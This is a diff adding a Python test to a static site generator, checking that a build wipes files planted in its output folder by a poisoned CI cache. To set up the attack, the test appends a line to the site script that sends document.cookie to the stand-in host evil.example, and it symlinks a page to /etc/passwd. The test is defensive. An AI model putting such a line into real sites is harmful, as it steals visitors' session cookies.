@@ -161,3 +161,31 @@ def test_the_search_keeps_unit_names_whole_when_no_keyword_is_cut_in_the_build(d
     assert len(names) >= 10  # jieba alone would cut each of these names apart
     for n in names:
         assert f"\u200b{n}\u200b" in units_page, n
+
+
+def test_nothing_planted_in_the_output_folder_survives_the_next_build(demo, tmp_path):
+    """Issue 20, finding 1: a site folder restored from a poisoned CI cache (a planted page, a dot file, a line
+    appended to the site's script, a link to a file outside) — the next build, which would be a dirty one, removes
+    every file it did not write and puts back every file it did: nothing planted is published."""
+    out = tmp_path / "site"
+    _build(demo, out)
+    script = (out / "assets" / "orders.js").read_bytes()
+    assert script == (THEME / "site_src" / "assets" / "orders.js").read_bytes()
+    same = _build(demo, out)
+    assert same.rendered is not None  # untouched: a dirty build (the check does not cost the reuse)
+    (out / "planted.html").write_text("<script>alert(1)</script>", encoding="utf-8")
+    (out / ".well-known").mkdir()
+    (out / ".well-known" / "planted.html").write_text("<script>alert(2)</script>", encoding="utf-8")
+    (out / ".htaccess").write_text("Options +Indexes\n", encoding="utf-8")
+    with (out / "assets" / "orders.js").open("ab") as f:
+        f.write(b"\nfetch('https://evil.example/?'+document.cookie);\n")
+    os.utime(out / "assets" / "orders.js", (time.time() + 3600, time.time() + 3600))  # newer than its source
+    (out / "passwd.html").symlink_to("/etc/passwd")
+    again = _build(demo, out)
+    assert again.rendered is None  # the folder is not the one the last build left: a full build, emptied first
+    assert (out / "assets" / "orders.js").read_bytes() == script
+    left = {p.relative_to(out).as_posix() for p in out.rglob("*")}
+    assert not {"planted.html", ".well-known", ".htaccess", "passwd.html"} & left
+    assert not any(p.is_symlink() for p in out.rglob("*"))
+    later = _build(demo, out)
+    assert later.rendered is not None  # and the build after that may reuse it again
